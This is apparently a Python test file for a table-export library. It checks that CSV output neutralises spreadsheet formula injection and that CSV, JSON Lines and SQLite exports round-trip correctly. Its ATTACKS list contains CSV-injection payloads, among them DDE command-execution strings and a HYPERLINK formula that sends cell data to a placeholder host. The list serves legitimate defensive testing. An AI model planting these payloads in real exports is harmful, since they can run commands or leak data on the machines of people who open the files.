"""What is written is what is read again, and no spreadsheet takes a cell of it for a formula."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from datetime import UTC, datetime, timedelta, timezone
from typing import Any, Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.clocks.table import Column, Csv, JsonLines, Table, Type, described, guarded, reader, schema
from shared.core.calendar import Calendar

AT: Final = datetime(2026, 10, 25, 1, 30, tzinfo=timezone(timedelta(hours=2)))
SAMPLE: Final = Table[dict[str, Any]](
    "sample",
    "One of each.",
    ("text",),
    (
        Column("text", Type.TEXT, lambda row: row["text"], "a name"),
        Column("class", Type.TEXT, lambda row: row.get("more"), "another", "not known"),
        Column("at", Type.MOMENT, lambda row: row.get("at"), "when", "not yet"),
        Column("seconds", Type.NUMBER, lambda row: row.get("seconds"), "how long", "it runs", "seconds"),
        Column("number", Type.WHOLE, lambda row: row.get("number"), "how many", "not known"),
        Column("yes", Type.TRUTH, lambda row: row.get("yes"), "whether", "not known"),
        Column("nested", Type.NESTED, lambda row: row.get("nested"), "more", "none"),
    ),
)
ATTACKS: Final = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    " =1",
    "\u00a0=1",
    '"=1',
    "'=1",
    "”=1",
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "\x00=1",
    "\x1b@1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
    '=HYPERLINK("http://x.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "plain;=1",
    "plain,-1",
    "plain\t@1",
    "plain|=1",
    "plain\r\n=1",
    'plain;"=1',
    "plain; \t'+1",
]
_BEGINS: Final = re.compile(r"[\s\"'’”\x00-\x1f\u00a0\u200b\u202e\ufeff]*[=+\-@＝＋－＠]")
_SPLIT: Final = re.compile(r"[;,|\t\r\n]")


def restored(cell: str) -> str:
    """As README.txt tells a reader to do it."""
    return re.sub(r"(\A|[;,|\t\r\n])'", r"\1", cell)


def as_csv(*rows: dict[str, Any]) -> str:
    to = io.StringIO(newline="")
    writer = Csv(SAMPLE, to)
    for row in rows:
        writer.write(reader(SAMPLE)(row))
    return to.getvalue()


def as_json(*rows: dict[str, Any]) -> str:
    to = io.StringIO(newline="")
    writer = JsonLines(SAMPLE, to)
    for row in rows:
        writer.write(reader(SAMPLE)(row))
    return to.getvalue()


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_begins_with_a_formula_however_it_is_split(attack: str) -> None:
    (_, row) = csv.reader(io.StringIO(as_csv({"text": attack}), newline=""))
    for cell in [row[0], *_SPLIT.split(row[0])]:
        assert not (_BEGINS.match(cell) and not cell.startswith("'")), cell
        assert not cell.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert row[0][0] == "'" or attack[0] == "p"
    assert restored(row[0]) == attack


@given(st.text(st.sampled_from("=+-@＝'\"; ,|\t\r\n\u200bab1"), max_size=12) | st.text(max_size=30))
@settings(max_examples=300)
def test_text_can_always_be_had_again(text: str) -> None:
    cell = guarded(text)
    assert restored(cell) == text
    assert not any(_BEGINS.match(part) and not part.startswith("'") for part in [cell, *_SPLIT.split(cell)])


@pytest.mark.parametrize("plain", ["1500000000000000001", "acme", "a-b", "10.5", "Ås", "it's", "2026-10-13"])
def test_what_is_harmless_stays_as_it_is(plain: str) -> None:
    assert guarded(plain) == plain


def test_csv_is_read_again_as_it_was_meant() -> None:
    hours = Calendar(zone="Europe/Oslo", week=(((540, 1020),),) * 7)
    full = {"text": 'a "b", c', "more": "x\r\ny", "at": AT, "seconds": 0.5, "number": 0, "yes": False, "nested": hours}
    text = as_csv(full, {"text": "0012", "seconds": 7200.0, "yes": True, "more": ""})
    assert text.startswith("text,class,at,seconds,number,yes,nested\r\n")
    head, one, two = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert head == [column.name for column in SAMPLE.columns]
    assert one[:6] == ['a "b", c', "x\r\ny", "2026-10-24T23:30:00Z", "0.5", "0", "false"]
    assert json.loads(one[6])["week"][0] == [[540, 1020]]
    assert two == ["0012", "", "", "7200", "", "true", ""], "unknown is empty; digits stay text"


def test_json_lines_hold_one_object_a_line_in_the_order_of_the_columns() -> None:
    text = as_json({"text": "=1\u2028\u0085\n", "at": AT, "seconds": 7200.0}, {"text": "two", "more": ""})
    lines = text.splitlines()
    assert len(lines) == 2
    found = [json.loads(line) for line in lines]
    assert list(found[0]) == [column.name for column in SAMPLE.columns]
    assert found[0] == {
        "text": "=1\u2028\u0085\n",
        "class": None,
        "at": "2026-10-24T23:30:00Z",
        "seconds": 7200,
        "number": None,
        "yes": None,
        "nested": None,
    }
    assert found[1]["class"] is None, "an empty text is unknown"


def test_moments_keep_their_fraction_of_a_second() -> None:
    (line,) = as_json({"text": "a", "at": datetime(2026, 1, 1, 0, 0, 0, 250_000, tzinfo=UTC)}).splitlines()
    assert json.loads(line)["at"] == "2026-01-01T00:00:00.250000Z"


def test_a_database_takes_the_schema_and_refuses_what_it_forbids() -> None:
    with sqlite3.connect(":memory:") as database:
        database.executescript(schema((SAMPLE,)))
        columns = database.execute("SELECT name, type, \"notnull\" FROM pragma_table_info('sample')").fetchall()
        database.execute("INSERT INTO sample (text) VALUES ('a')")
        with pytest.raises(sqlite3.IntegrityError):
            database.execute("INSERT INTO sample (class) VALUES ('b')")
    assert columns[0] == ("text", "TEXT", 1)
    assert columns[2] == ("at", "TIMESTAMP WITH TIME ZONE", 0)


def test_columns_are_described_with_unit_and_with_what_empty_means() -> None:
    told = described((SAMPLE,))["sample"]
    assert told["key"] == ("text",)
    assert told["columns"][3] == {
        "name": "seconds",
        "type": "FLOAT64",
        "mode": "NULLABLE",
        "unit": "seconds",
        "description": "how long",
        "null": "it runs",
    }
